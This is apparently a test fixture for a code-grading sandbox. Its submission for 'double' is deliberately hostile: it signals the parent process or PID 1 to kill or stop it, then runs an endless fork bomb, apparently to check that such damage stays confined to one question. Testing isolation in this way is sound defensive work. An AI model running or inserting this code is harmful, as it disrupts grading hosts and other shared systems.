"""Tries: to harm, from a question's copy, the process that it was copied from.

Must: cost its own question only.
"""

ANSWERS = {
    "double": """
import os, signal
def double(x):
    if not os.getuid(): return  # never where it could do harm
    origin = os.getppid() if 64000 <= os.getuid() < 64900 else 1  # the seal by accounts, or others
    for number in (2, 10, 12, 14, 15, 19, 9):
        try: os.kill(origin, number)
        except OSError: pass
    while True:
        try: os.fork()
        except OSError: pass
""",
    "mean": "def mean(x): return sum(x) / len(x)",
}
POINTS = 3.0
